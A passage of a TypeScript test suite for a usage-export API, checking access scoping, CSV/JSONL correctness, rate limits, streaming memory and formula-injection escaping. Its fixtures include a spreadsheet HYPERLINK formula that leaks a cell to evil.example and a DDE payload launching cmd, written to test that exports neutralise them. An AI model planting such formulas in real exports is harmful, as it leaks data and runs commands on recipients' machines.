// Usage out of the app against the real stack: exports (GET /api/usage/export, called in-process
// with a signed-in user's session) equal SQL over raw events for every scope and granularity, never
// show another organization's rows, neutralise hostile cells, refuse bad parameters with a 400 that
// names them, limit concurrent exports per user, stop when the client goes away, and stream 200k
// rows with flat memory. The usage query API (GET /api/v1/usage) answers the dashboard's numbers.
import { randomUUID } from "node:crypto";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";

import {
  EVENT_TYPES,
  METRICS,
  addUtcDays,
  startOfUtcDay,
  type EventType,
} from "../../packages/usage/src/index";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { GET as usageQueryRoute } from "@/app/api/v1/usage/route";
import { errorResponse } from "@/lib/api/responses";
import { createApiKey } from "@/lib/api-keys/mutations";
import type { AuthContext } from "@/lib/auth/server";
import { decideScope, listMemberOptions, loadUsageDashboard } from "@/lib/usage/dashboard";
import { EXPORT_PAGE_ROWS, handleUsageExport, type ExportHooks } from "@/lib/usage/export";

import { createOrg, createTestUser, serviceClient, sql, type TestUser } from "../support/supabase";

const db = sql();
afterAll(() => db.end());

const DAY = 86_400_000;
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const HOSTILE_DATA = { route: "@SUM(1+1)*cmd|' /C calc'!A0", status: 200, note: "=1+2" };

async function sessionOf(user: TestUser): Promise<AuthContext> {
  const { data, error } = await user.client.auth.getUser();
  if (error || !data.user) throw error ?? new Error("no user");
  return { user: data.user, supabase: user.client as unknown as AuthContext["supabase"] };
}

async function spend(
  userId: string,
  orgId: string | null,
  eventType: EventType,
  quantity: number,
  at: Date,
  data: Record<string, unknown> = {},
) {
  await db`insert into public.usage_events (user_id, org_id, event_type, quantity, event_data, created_at, idempotency_key)
           values (${userId}, ${orgId}, ${eventType}, ${quantity}, ${db.json(data as never)}, ${at}, ${`export-test:${randomUUID()}`})`;
}

function exportRequest(query: string, signal?: AbortSignal) {
  return new Request(`http://localhost/api/usage/export?${query}`, { signal });
}

/** The handler as the route runs it: withSession turns a thrown AppError into its JSON answer. */
function exportRoute(request: Request, ctx: AuthContext, hooks?: ExportHooks): Promise<Response> {
  return handleUsageExport(request, ctx, hooks).catch(errorResponse);
}

// Retained memory, not garbage waiting for a collection: collect before each sample.
setFlagsFromString("--expose-gc");
const collectGarbage = runInNewContext("gc") as () => void;

async function exportText(ctx: AuthContext, query: string, hooks?: ExportHooks) {
  const response = await handleUsageExport(exportRequest(query), ctx, hooks);
  return { response, text: await response.text() };
}

type Row = Record<string, string>;
const csvRows = (text: string) => parse(text, { columns: true }) as Row[];

/** What reading a CSV export's stream to its end saw. `received` grows as bytes arrive. */
interface Drained {
  received: number;
  lines: number;
  /** The sum of the quantity column. */
  quantity: number;
  tail: string;
  peakRss: number;
  /** Heap and buffers held (after collecting garbage) every 5 chunks, against the baseline. */
  retained: number[];
}

async function drainCsv(
  reader: ReadableStreamDefaultReader<Uint8Array>,
  baseline: NodeJS.MemoryUsage,
  seen: Drained = { received: 0, lines: 0, quantity: 0, tail: "", peakRss: 0, retained: [] },
): Promise<Drained> {
  const decoder = new TextDecoder();
  let chunks = 0;
  for (;;) {
    const { value, done } = await reader.read();
    if (done) break;
    seen.received += value.byteLength;
    const parts = (seen.tail + decoder.decode(value, { stream: true })).split("\r\n");
    seen.tail = parts.pop() ?? "";
    for (const line of parts) {
      seen.lines++;
      seen.quantity += Number(line.split(",")[9]);
    }
    if (++chunks % 5 === 0) {
      // Twice: buffers freed by one collection are returned by the next.
      collectGarbage();
      collectGarbage();
      const memory = process.memoryUsage();
      seen.peakRss = Math.max(seen.peakRss, memory.rss - baseline.rss);
      seen.retained.push(memory.heapUsed + memory.arrayBuffers - baseline.heapUsed - baseline.arrayBuffers);
    }
  }
  return seen;
}

/** Raw events of a scope, as the export writes them, from SQL. */
async function rawFromSql(where: { orgId: string; userId?: string }, from: Date, to: Date) {
  const rows = await db<Row[]>`
    select e.id::text as event_id,
           to_char(e.created_at at time zone 'utc', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as created_at,
           to_char(e.received_at at time zone 'utc', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as received_at,
           e.org_id::text as org_id, e.user_id::text as user_id, e.event_type, e.quantity::text as quantity,
           e.event_data::text as event_data
    from public.usage_events e
    where e.org_id = ${where.orgId} and (${where.userId ?? null}::uuid is null or e.user_id = ${where.userId ?? null}::uuid)
      and e.created_at >= ${from} and e.created_at < ${to}
    order by e.created_at, e.id`;
  return rows.map((row) => ({ ...row }));
}

const pick = (row: Row, keys: string[]) => Object.fromEntries(keys.map((key) => [key, row[key]]));
const RAW_KEYS = [
  "event_id",
  "created_at",
  "received_at",
  "org_id",
  "user_id",
  "event_type",
  "quantity",
  "event_data",
];

const COLUMN: Record<Exclude<EventType, "storage_used">, string> = {
  record_created: "records_created",
  api_call: "api_calls",
  automation_run: "automation_runs",
  schedule_executed: "schedule_executions",
  ai_tokens_used: "ai_tokens",
  user_active: "active_users",
};

/**
 * The roll-up file's rows computed from raw events alone (an oracle independent of roll-ups and
 * of the reader): per bucket and member, counters summed, active 1/0, storage level at the bucket's
 * end (all history) and its change; a member is listed when they used something or hold storage.
 */
async function rollupsFromSql(
  scope: { orgId: string; userId?: string },
  from: Date,
  to: Date,
  type: "daily" | "monthly",
) {
  const events = await db<{ user_id: string; event_type: EventType; quantity: string; created_at: Date }[]>`
    select user_id::text, event_type, quantity::text, created_at from public.usage_events
    where org_id = ${scope.orgId} and (${scope.userId ?? null}::uuid is null or user_id = ${scope.userId ?? null}::uuid)
      and created_at < ${to}`;
  const bucketOf = (at: Date) =>
    type === "daily" ? startOfUtcDay(at) : new Date(Date.UTC(at.getUTCFullYear(), at.getUTCMonth(), 1));
  const next = (at: Date) =>
    type === "daily" ? addUtcDays(at, 1) : new Date(Date.UTC(at.getUTCFullYear(), at.getUTCMonth() + 1, 1));
  const expected = new Map<string, Record<string, number>>();
  for (let bucket = bucketOf(from); bucket < to; bucket = next(bucket)) {
    const start = new Date(Math.max(bucket.getTime(), from.getTime()));
    const end = new Date(Math.min(next(bucket).getTime(), to.getTime()));
    const users = new Set(events.map((e) => e.user_id));
    for (const user of users) {
      const mine = events.filter((e) => e.user_id === user);
      const inBucket = mine.filter((e) => e.created_at >= start && e.created_at < end);
      const level = mine
        .filter((e) => e.event_type === "storage_used" && e.created_at < end)
        .reduce((sum, e) => sum + Number(e.quantity), 0);
      if (inBucket.length === 0 && level === 0) continue;
      const values: Record<string, number> = {
        storage_bytes: level,
        storage_change_bytes: inBucket
          .filter((e) => e.event_type === "storage_used")
          .reduce((sum, e) => sum + Number(e.quantity), 0),
      };
      for (const [metric, column] of Object.entries(COLUMN)) {
        const of = inBucket.filter((e) => e.event_type === metric);
        values[column] =
          METRICS[metric as EventType].kind === "unique"
            ? Math.min(of.length, 1)
            : of.reduce((sum, e) => sum + Number(e.quantity), 0);
      }
      expected.set(`${start.toISOString()}|${user}`, values);
    }
  }
  return expected;
}

function rollupMap(rows: Row[]) {
  return new Map(
    rows.map((row) => [
      `${row.period_start}|${row.user_id}`,
      Object.fromEntries(
        [...Object.values(COLUMN), "storage_bytes", "storage_change_bytes"].map((c) => [c, Number(row[c])]),
      ),
    ]),
  );
}

/** No text cell may start like a formula; numbers (a negative storage change) may. */
function expectNoFormulaCells(rows: Row[]) {
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), `${column}: ${cell}`).toBe(true);
    }
  }
}

describe("usage exports", () => {
  let owner: TestUser, admin: TestUser, member: TestUser, outsider: TestUser, platformAdmin: TestUser;
  let ownerCtx: AuthContext, adminCtx: AuthContext, memberCtx: AuthContext, platformCtx: AuthContext;
  let orgId: string, otherOrgId: string;
  const today = startOfUtcDay(new Date());
  const from = addUtcDays(today, -3);
  const to = addUtcDays(today, 1);
  const range = `from=${from.toISOString().slice(0, 10)}&to=${today.toISOString().slice(0, 10)}`;

  beforeAll(async () => {
    [owner, admin, member, outsider, platformAdmin] = await Promise.all([
      createTestUser({ displayName: "Olivia Owner" }),
      createTestUser({ displayName: "Adam Admin" }),
      createTestUser(),
      createTestUser(),
      createTestUser(),
    ]);
    await db`update public.profiles set display_name = ${HOSTILE_NAME} where id = ${member.id}`;
    await db`update auth.users set raw_app_meta_data = raw_app_meta_data || '{"platform_admin": true}'
             where id = ${platformAdmin.id}`;
    orgId = await createOrg(owner, [
      [admin, "admin"],
      [member, "member"],
    ]);
    otherOrgId = await createOrg(outsider, [[member, "member"]]);
    [ownerCtx, adminCtx, memberCtx, platformCtx] = (await Promise.all(
      [owner, admin, member, platformAdmin].map(sessionOf),
    )) as [AuthContext, AuthContext, AuthContext, AuthContext];
    expect(platformCtx.user.app_metadata.platform_admin).toBe(true);

    const at = (days: number, hours: number) => new Date(today.getTime() + days * DAY + hours * 3_600_000);
    // History before the range: storage that is still held.
    await spend(owner.id, orgId, "storage_used", 5000, at(-40, 9));
    await spend(owner.id, orgId, "api_call", 1, at(-3, 10), { route: "/api/v1/records", status: 200 });
    await spend(owner.id, orgId, "storage_used", 1000, at(-3, 11));
    await spend(admin.id, orgId, "ai_tokens_used", 500, at(-2, 9), {
      model: "=1+1",
      prompt_tokens: 1,
      completion_tokens: 2,
    });
    await spend(admin.id, orgId, "record_created", 1, at(-2, 10));
    await spend(member.id, orgId, "api_call", 1, at(-2, 12), HOSTILE_DATA);
    await spend(member.id, orgId, "storage_used", 400, at(-2, 13));
    await spend(member.id, orgId, "storage_used", -150, at(-1, 8));
    await spend(member.id, orgId, "user_active", 1, at(-1, 9));
    await spend(owner.id, orgId, "user_active", 1, at(-1, 10));
    await spend(owner.id, orgId, "api_call", 1, new Date(Date.now() - 1000), {
      route: "/api/v1/usage",
      status: 200,
    });
    // Another organization, the member's too: never in this organization's exports.
    await spend(member.id, otherOrgId, "api_call", 1, at(-2, 14), { route: "/elsewhere", status: 500 });
    await spend(outsider.id, otherOrgId, "storage_used", 777, at(-1, 14));

    // Closed days come from roll-ups, as on the dashboard; a late event then dirties one of them.
    const rolled = await serviceClient().rpc("aggregate_usage", {
      p_period_type: "daily",
      p_period_start: addUtcDays(today, -45).toISOString(),
      p_period_end: today.toISOString(),
    });
    expect(rolled.error).toBeNull();
    await spend(admin.id, orgId, "automation_run", 1, at(-1, 15));
  });

  it("gives an owner every raw event of the organization, equal to SQL, and no other organization's", async () => {
    const { response, text } = await exportText(ownerCtx, `org=${orgId}&${range}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get("content-disposition")).toMatch(
      new RegExp(
        `filename="usage_org-[a-z0-9-]+_org_${range.replace(/from=|to=/g, "").replace("&", "_")}_raw\\.csv"`,
      ),
    );
    expect(text.split("\r\n")[0]).toBe(
      "event_id,created_at,received_at,org_id,org_name,user_id,member_name,member_email,event_type,quantity,unit,event_data",
    );
    const rows = csvRows(text);
    expect(rows.map((row) => pick(row, RAW_KEYS))).toEqual(await rawFromSql({ orgId }, from, to));
    expect(rows.every((row) => row.org_id === orgId)).toBe(true);
    expect(rows.map((row) => row.event_data)).not.toContain(expect.stringContaining("/elsewhere"));
    expect(
      rows.find((row) => row.event_type === "storage_used" && row.quantity?.startsWith("-")),
    ).toMatchObject({
      quantity: "-150",
      unit: "bytes",
    });
    expect(rows.every((row) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/.test(row.created_at ?? ""))).toBe(
      true,
    );
  });

  it("neutralises a hostile member name and event_data, and keeps negative numbers numeric", async () => {
    const { text } = await exportText(ownerCtx, `org=${orgId}&${range}`);
    const rows = csvRows(text);
    expectNoFormulaCells(rows);
    const hostile = rows.filter((row) => row.user_id === member.id);
    expect(hostile.length).toBeGreaterThan(0);
    for (const row of hostile) expect(row.member_name).toBe(`'${HOSTILE_NAME}`);
    // event_data is one JSON cell: it starts with "{", and parses back to what was stored.
    const api = hostile.find((row) => row.event_type === "api_call");
    expect(JSON.parse(api?.event_data ?? "")).toEqual(HOSTILE_DATA);
    // The raw text: the negative change is written as a bare number, the name as quoted text.
    expect(text).toContain(",-150,bytes,");
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
  });

  it("gives an admin what the owner gets", async () => {
    const [ownerFile, adminFile] = await Promise.all([
      exportText(ownerCtx, `org=${orgId}&${range}&scope=org`),
      exportText(adminCtx, `org=${orgId}&${range}`),
    ]);
    expect(adminFile.response.status).toBe(200);
    expect(csvRows(adminFile.text)).toEqual(csvRows(ownerFile.text));
  });

  it("gives a member only their own events in this organization, and refuses more with 403", async () => {
    const { response, text } = await exportText(memberCtx, `org=${orgId}&${range}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toContain(
      "_member-hyperlink-http-evil-example-leak-a1",
    );
    const rows = csvRows(text);
    expect(rows.map((row) => pick(row, RAW_KEYS))).toEqual(
      await rawFromSql({ orgId, userId: member.id }, from, to),
    );
    expect(rows.length).toBe(4);
    expect(rows.every((row) => row.user_id === member.id && row.org_id === orgId)).toBe(true);

    const own = await exportText(memberCtx, `org=${orgId}&member=${member.id}&${range}`);
    expect(own.text).toBe(text);
    for (const query of [`org=${orgId}&scope=org&${range}`, `org=${orgId}&member=${owner.id}&${range}`]) {
      const refused = await exportRoute(exportRequest(query), memberCtx);
      expect(refused.status).toBe(403);
      expect(((await refused.json()) as { error: { message: string } }).error.message).toMatch(
        /^(member|scope): /,
      );
    }
  });

  it("lets owners narrow to a member, and refuses strangers and foreign organizations", async () => {
    const narrowed = await exportText(ownerCtx, `org=${orgId}&member=${admin.id}&${range}`);
    expect(csvRows(narrowed.text).map((row) => pick(row, RAW_KEYS))).toEqual(
      await rawFromSql({ orgId, userId: admin.id }, from, to),
    );
    const cases: [AuthContext, string, number, RegExp][] = [
      [ownerCtx, `org=${orgId}&member=${outsider.id}&${range}`, 400, /^member: not a member/],
      [ownerCtx, `org=${otherOrgId}&${range}`, 404, /^org: /],
      [ownerCtx, `scope=platform&${range}`, 403, /platform admins/],
      [memberCtx, `scope=platform&org=${orgId}&${range}`, 403, /platform admins/],
    ];
    for (const [ctx, query, status, message] of cases) {
      const response = await exportRoute(exportRequest(query), ctx);
      expect(response.status, query).toBe(status);
      expect(((await response.json()) as { error: { message: string } }).error.message).toMatch(message);
    }
  });

  it("writes daily and monthly roll-ups equal to sums over raw events, member by member", async () => {
    for (const [ctx, scope] of [
      [ownerCtx, { orgId }],
      [memberCtx, { orgId, userId: member.id }],
    ] as const) {
      const daily = await exportText(ctx, `org=${orgId}&${range}&granularity=daily`);
      expect(daily.response.status).toBe(200);
      const rows = csvRows(daily.text);
      expect(Object.keys(rows[0] ?? {})).toEqual([
        "period_start",
        "period_end",
        "org_id",
        "org_name",
        "user_id",
        "member_name",
        "member_email",
        "records_created",
        "api_calls",
        "automation_runs",
        "storage_bytes",
        "storage_change_bytes",
        "schedule_executions",
        "ai_tokens",
        "active_users",
      ]);
      expect(rollupMap(rows)).toEqual(await rollupsFromSql(scope, from, to, "daily"));
      expectNoFormulaCells(rows);
    }

    // Monthly, over a range that starts mid-month: the first period is cut at `from`.
    const monthFrom = addUtcDays(today, -35);
    const monthly = await exportText(
      ownerCtx,
      `org=${orgId}&from=${monthFrom.toISOString().slice(0, 10)}&to=${today.toISOString().slice(0, 10)}&granularity=monthly`,
    );
    const rows = csvRows(monthly.text);
    expect(rows[0]?.period_start).toBe(monthFrom.toISOString());
    expect(rollupMap(rows)).toEqual(await rollupsFromSql({ orgId }, monthFrom, to, "monthly"));
  });

  it("writes JSON Lines with the same rows, event_data as JSON", async () => {
    const [csv, jsonl] = await Promise.all([
      exportText(ownerCtx, `org=${orgId}&${range}`),
      exportText(ownerCtx, `org=${orgId}&${range}&format=jsonl`),
    ]);
    expect(jsonl.response.headers.get("content-type")).toMatch(/^application\/jsonl/);
    const lines = jsonl.text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    const rows = csvRows(csv.text);
    expect(lines).toHaveLength(rows.length);
    lines.forEach((line, i) => {
      expect(line.event_id).toBe(rows[i]?.event_id);
      expect(line.event_data).toEqual(JSON.parse(rows[i]?.event_data ?? ""));
      expect(String(line.quantity)).toBe(rows[i]?.quantity);
    });
    expect(lines.find((line) => line.user_id === member.id)?.member_name).toBe(HOSTILE_NAME);
  });

  it("gives platform admins every organization, in keyset pages across organizations", async () => {
    // A window of its own, long ago, so other tests' events stay out of it.
    const start = new Date(
      Math.floor((Date.now() - 300 * DAY) / 60_000) * 60_000 + Math.floor(Math.random() * 1e6),
    );
    const end = new Date(start.getTime() + 60_000);
    const times = [1, 2, 3, 4, 5].map((s) => new Date(start.getTime() + s * 1000));
    await spend(owner.id, orgId, "api_call", 1, times[0] as Date, { route: "/a", status: 200 });
    await spend(owner.id, orgId, "api_call", 1, times[0] as Date, { route: "/b", status: 200 });
    await spend(admin.id, orgId, "record_created", 1, times[2] as Date);
    await spend(outsider.id, otherOrgId, "storage_used", 10, times[1] as Date);
    await spend(outsider.id, otherOrgId, "storage_used", -4, times[3] as Date);
    await spend(outsider.id, null, "ai_tokens_used", 5, times[4] as Date, { model: "none" });

    const query = `scope=platform&from=${start.toISOString()}&to=${end.toISOString()}`;
    const pages: number[] = [];
    const { response, text } = await exportText(platformCtx, query, {
      reader: "api",
      pageRows: 2,
      onPage: ({ rows }) => pages.push(rows),
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toContain("usage_all-organizations_platform_");
    const expected = await db<{ event_id: string }[]>`
      select id::text as event_id from public.usage_events where created_at >= ${start} and created_at < ${end}
      order by org_id nulls last, created_at, id`;
    expect(csvRows(text).map((row) => row.event_id)).toEqual(expected.map((row) => row.event_id));
    expect(expected).toHaveLength(6);
    expect(pages.every((rows) => rows <= 2)).toBe(true);
    // COPY writes the same file in the same order.
    expect((await exportText(platformCtx, query, { reader: "copy" })).text).toBe(text);

    const oneOrg = await exportText(platformCtx, `${query}&org=${otherOrgId}`);
    expect(csvRows(oneOrg.text).map((row) => row.org_id)).toEqual([otherOrgId, otherOrgId]);
  });

  it("answers every bad parameter with a 400 that names it", async () => {
    const cases: [string, string][] = [
      [`org=${orgId}`, "from"],
      [`org=${orgId}&from=2026-13-01&to=2026-12-01`, "from"],
      [`org=${orgId}&from=2026-12-01&to=nope`, "to"],
      [`org=${orgId}&from=2026-12-05&to=2026-12-01`, "to"],
      [`org=${orgId}&from=2025-01-01&to=2026-06-01`, "to"],
      [`org=${orgId}&${range}&granularity=weekly`, "granularity"],
      [`org=${orgId}&${range}&format=xlsx`, "format"],
      [`org=${orgId}&${range}&metrics=api_call,nope`, "metrics"],
      [`org=nope&${range}`, "org"],
      [`org=${orgId}&member=%00&${range}`, "member"],
      [`org=${orgId}&${range}&scope=all`, "scope"],
      [`org=${orgId}&${range}&sort=desc`, "sort"],
      [`org=${orgId}&${range}&granularity=raw&granularity=daily`, "granularity"],
    ];
    for (const [query, parameter] of cases) {
      const response = await exportRoute(exportRequest(query), ownerCtx);
      expect(response.status, query).toBe(400);
      const body = (await response.json()) as { error: { code: string; message: string; details: unknown } };
      expect(body.error, query).toMatchObject({
        code: "bad_request",
        details: { issues: expect.any(Array) },
      });
      expect(body.error.message, query).toMatch(new RegExp(`^Invalid parameter ${parameter}: `));
    }
    expect(await leases(owner.id)).toBe(0);
  });

  it("lets one user run two exports at once and answers a third with 429 and Retry-After", async () => {
    const first = await handleUsageExport(exportRequest(`org=${orgId}&${range}`), ownerCtx);
    const second = await handleUsageExport(exportRequest(`org=${orgId}&${range}`), ownerCtx);
    expect([first.status, second.status]).toEqual([200, 200]);
    const third = await handleUsageExport(exportRequest(`org=${orgId}&${range}`), ownerCtx);
    expect(third.status).toBe(429);
    expect(Number(third.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
    expect(await third.json()).toMatchObject({ error: { code: "rate_limited" } });

    // Other users have their own allowance.
    const other = await exportText(adminCtx, `org=${orgId}&${range}`);
    expect(other.response.status).toBe(200);

    // A finished (or abandoned) export frees its slot.
    await first.body?.cancel();
    await expect.poll(async () => leases(owner.id)).toBe(1);
    const again = await handleUsageExport(exportRequest(`org=${orgId}&${range}`), ownerCtx);
    expect(again.status).toBe(200);
    await Promise.all([second.text(), again.text()]);
    await expect.poll(async () => leases(owner.id)).toBe(0);
  });

  async function leases(userId: string) {
    const [row] = await db<{ n: number }[]>`
      select count(*)::int as n from public.usage_export_leases where user_id = ${userId} and expires_at > now()`;
    return row?.n ?? 0;
  }

  describe("a large export", () => {
    const ROWS = 200_000;
    let bigOwner: TestUser, bigCtx: AuthContext, bigOrg: string;
    const bigFrom = addUtcDays(today, -2);
    const bigRange = `from=${bigFrom.toISOString().slice(0, 10)}&to=${today.toISOString().slice(0, 10)}`;

    beforeAll(async () => {
      bigOwner = await createTestUser({ displayName: "Big Owner" });
      bigOrg = await createOrg(bigOwner);
      bigCtx = await sessionOf(bigOwner);
      // Spread over the last day or so, ties on created_at included (two events per instant).
      await db`
        insert into public.usage_events (user_id, org_id, event_type, quantity, event_data, created_at, idempotency_key)
        select ${bigOwner.id}, ${bigOrg}, 'api_call', 1, jsonb_build_object('route', '/api/v1/records', 'status', 200, 'i', i),
               greatest(${bigFrom}::timestamptz, now() - make_interval(secs => (i / 2) * 0.8)), 'big:' || ${bigOrg}::text || ':' || i
        from generate_series(1, ${ROWS}) as i`;
    }, 120_000);

    it("streams 200k rows in pages as they are read, with flat memory and back-pressure", async () => {
      const seen: Drained = { received: 0, lines: 0, quantity: 0, tail: "", peakRss: 0, retained: [] };
      let bytesAtLastPage = -1;
      const pages: number[] = [];
      const hooks: ExportHooks = {
        onPage: ({ rows }) => {
          pages.push(rows);
          bytesAtLastPage = seen.received;
        },
      };
      collectGarbage();
      const baseline = process.memoryUsage();
      const response = await handleUsageExport(exportRequest(`org=${bigOrg}&${bigRange}`), bigCtx, {
        ...hooks,
        reader: "api",
      });
      expect(response.status).toBe(200);
      const reader = (response.body as ReadableStream<Uint8Array>).getReader();

      // Back-pressure: a client that stops reading stops the reads (one page ahead at most).
      await reader.read(); // the header row
      await reader.read(); // page 1
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(pages.length).toBeLessThanOrEqual(3);

      const { received, lines, quantity, peakRss, retained } = await drainCsv(reader, baseline, seen);
      const [count] = await db<{ n: number }[]>`
        select count(*)::int as n from public.usage_events where org_id = ${bigOrg}`;
      expect(count?.n).toBe(ROWS);
      // Every row, once (the two lines read before the loop are the header and page 1).
      expect(lines + EXPORT_PAGE_ROWS).toBe(ROWS);
      expect(quantity + EXPORT_PAGE_ROWS).toBe(ROWS);
      expect(pages).toHaveLength(ROWS / EXPORT_PAGE_ROWS);
      // Streamed: when the last page was read from the database, nearly the whole file had
      // already reached the client (all but the page in the queue and the one read ahead).
      expect(bytesAtLastPage / received).toBeGreaterThan(0.9);
      // Flat memory: what the process holds while streaming (after collecting garbage) is a page
      // or two, a fraction of the file, and it does not grow as rows go by.
      const half = Math.floor(retained.length / 2);
      const early = Math.max(...retained.slice(0, half));
      const late = Math.max(...retained.slice(half));
      console.info(
        `[export] ${ROWS} rows, ${(received / 1e6).toFixed(1)} MB; ${((bytesAtLastPage / received) * 100).toFixed(1)}% received when the last page was read; retained heap +${(early / 1e6).toFixed(1)} MB in the first half, +${(late / 1e6).toFixed(1)} MB in the second; rss +${(peakRss / 1e6).toFixed(1)} MB`,
      );
      expect(retained.length).toBeGreaterThanOrEqual(6);
      expect(Math.max(early, late)).toBeLessThan(received / 2);
      // Two pages of 5,000 rows and the chunk in flight are a few MB whenever the sample is taken;
      // a file kept in memory would grow by the whole of it (received).
      expect(late - early).toBeLessThan(received / 8);
      await expect.poll(async () => leases(bigOwner.id)).toBe(0);
    }, 180_000);

    it("stops reading when the client goes away", async () => {
      for (const how of ["cancel", "abort"] as const) {
        const pages: number[] = [];
        const controller = new AbortController();
        const response = await handleUsageExport(
          exportRequest(`org=${bigOrg}&${bigRange}`, controller.signal),
          bigCtx,
          { reader: "api", pageRows: 1000, onPage: ({ index }) => pages.push(index) },
        );
        const reader = (response.body as ReadableStream<Uint8Array>).getReader();
        for (let i = 0; i < 4; i++) await reader.read();
        if (how === "cancel") await reader.cancel();
        else controller.abort();
        await expect.poll(async () => leases(bigOwner.id)).toBe(0);
        const seen = pages.length;
        await new Promise((resolve) => setTimeout(resolve, 500));
        expect(pages.length, how).toBe(seen);
        expect(seen, how).toBeLessThanOrEqual(6);
      }
    }, 60_000);

    /** The export's own connection, as Postgres sees it (its query text is cut short there). */
    const copyBackends = () => db<{ state: string; wait_event: string | null }[]>`
      select state, wait_event from pg_stat_activity
      where application_name = 'usage-export' and query ilike 'copy%'`;

    it("streams 200k rows with COPY: every row once, flat memory, and Postgres waits for a client that does not read", async () => {
      collectGarbage();
      const baseline = process.memoryUsage();
      const response = await handleUsageExport(exportRequest(`org=${bigOrg}&${bigRange}`), bigCtx, {
        reader: "copy",
      });
      expect(response.status).toBe(200);
      const reader = (response.body as ReadableStream<Uint8Array>).getReader();
      await reader.read(); // the header row
      await reader.read(); // the first rows
      // Back-pressure reaches Postgres: with the client not reading, the COPY waits to write.
      await expect
        .poll(async () => (await copyBackends()).map((b) => b.wait_event), { timeout: 10_000 })
        .toEqual(["ClientWrite"]);

      const { received, lines, quantity, tail, retained } = await drainCsv(reader, baseline);
      expect(tail).toBe("");
      // Every row once, each ending in CRLF (the first chunk held the rows read before the loop).
      const [count] = await db<{ n: number }[]>`
        select count(*)::int as n from public.usage_events where org_id = ${bigOrg}`;
      expect(count?.n).toBe(ROWS);
      expect(lines).toBeGreaterThan(ROWS * 0.9);
      expect(lines).toBeLessThan(ROWS);
      expect(quantity).toBe(lines);
      expect(retained.length).toBeGreaterThanOrEqual(6);
      const half = Math.floor(retained.length / 2);
      expect(Math.max(...retained.slice(half)) - Math.max(...retained.slice(0, half))).toBeLessThan(
        received / 8,
      );
      await expect.poll(async () => (await copyBackends()).length).toBe(0);
      await expect.poll(async () => leases(bigOwner.id)).toBe(0);
    }, 180_000);

    it("ends the COPY when the client goes away", async () => {
      for (const how of ["cancel", "abort"] as const) {
        const controller = new AbortController();
        const response = await handleUsageExport(
          exportRequest(`org=${bigOrg}&${bigRange}`, controller.signal),
          bigCtx,
          { reader: "copy" },
        );
        const reader = (response.body as ReadableStream<Uint8Array>).getReader();
        for (let i = 0; i < 3; i++) await reader.read();
        expect((await copyBackends()).length, how).toBe(1);
        if (how === "cancel") await reader.cancel();
        else controller.abort();
        await expect.poll(async () => (await copyBackends()).length, { timeout: 10_000 }).toBe(0);
        await expect.poll(async () => leases(bigOwner.id)).toBe(0);
      }
    }, 60_000);
  });
});

describe("raw CSV read with COPY", () => {
  // A window of its own, long ago, so other tests' events stay out of it.
  const start = new Date(Date.UTC(2023, 4, 1) + Math.floor(Math.random() * 1e6) * 1000);
  const at = (seconds: number) => new Date(start.getTime() + seconds * 1000);
  const range = () => `from=${start.toISOString()}&to=${at(3600).toISOString()}`;
  let owner: TestUser, member: TestUser, quiet: TestUser, platformAdmin: TestUser;
  let ownerCtx: AuthContext, memberCtx: AuthContext, platformCtx: AuthContext;
  let orgId: string;

  beforeAll(async () => {
    [owner, member, quiet, platformAdmin] = await Promise.all([
      createTestUser(),
      createTestUser(),
      createTestUser(),
      createTestUser(),
    ]);
    orgId = await createOrg(owner, [
      [member, "member"],
      [quiet, "member"],
    ]);
    // Cells that need everything the CSV writer does: quotes, commas, line breaks inside a cell,
    // formula starts in ASCII and full width, tabs, an empty name and none at all.
    await db`update public.organizations set name = ${'＝Acme\r\nInc, "Ltd"\tEU'} where id = ${orgId}`;
    await db`update public.profiles set display_name = ${'-Olga, "the owner"\nsecond line'} where id = ${owner.id}`;
    await db`update public.profiles set display_name = '', email = ${"@member@example.com"} where id = ${member.id}`;
    await db`update public.profiles set display_name = null where id = ${quiet.id}`;
    await db`update auth.users set raw_app_meta_data = raw_app_meta_data || '{"platform_admin": true}'
             where id = ${platformAdmin.id}`;
    [ownerCtx, memberCtx, platformCtx] = (await Promise.all(
      [owner, member, platformAdmin].map(sessionOf),
    )) as [AuthContext, AuthContext, AuthContext];
    await spend(owner.id, orgId, "api_call", 1, at(1), HOSTILE_DATA);
    await spend(owner.id, orgId, "api_call", 1, at(1), { route: "/tie", status: 200 });
    await spend(member.id, orgId, "ai_tokens_used", 1234, at(2), {
      model: "+gpt",
      note: 'a "quoted", line\nbreak',
    });
    await spend(member.id, orgId, "storage_used", -150, at(3), { path: "=x.pdf" });
    await spend(quiet.id, orgId, "record_created", 1, at(4));
    await spend(quiet.id, null, "user_active", 1, at(5));
    // Stored as written: quantities with trailing zeros.
    await db`insert into public.usage_events (user_id, org_id, event_type, quantity, event_data, created_at, idempotency_key)
             values (${owner.id}, ${orgId}, 'storage_used', 1.50, '{"n": -5}', ${at(6)}, ${`export-test:${randomUUID()}`}),
                    (${owner.id}, ${orgId}, 'storage_used', 2.000, '{}', ${at(7)}, ${`export-test:${randomUUID()}`})`;
  });

  const both = async (ctx: AuthContext, query: string) => {
    const [api, copy] = await Promise.all([
      exportText(ctx, query, { reader: "api" }),
      exportText(ctx, query, { reader: "copy" }),
    ]);
    expect(api.response.status).toBe(200);
    expect(copy.response.status).toBe(200);
    return { api: api.text, copy: copy.text };
  };

  it("writes the same bytes as the app's CSV writer, for an organization, a member and the platform", async () => {
    const org = await both(ownerCtx, `org=${orgId}&${range()}`);
    expect(org.copy).toBe(org.api);
    const rows = csvRows(org.copy);
    expect(rows).toHaveLength(7);
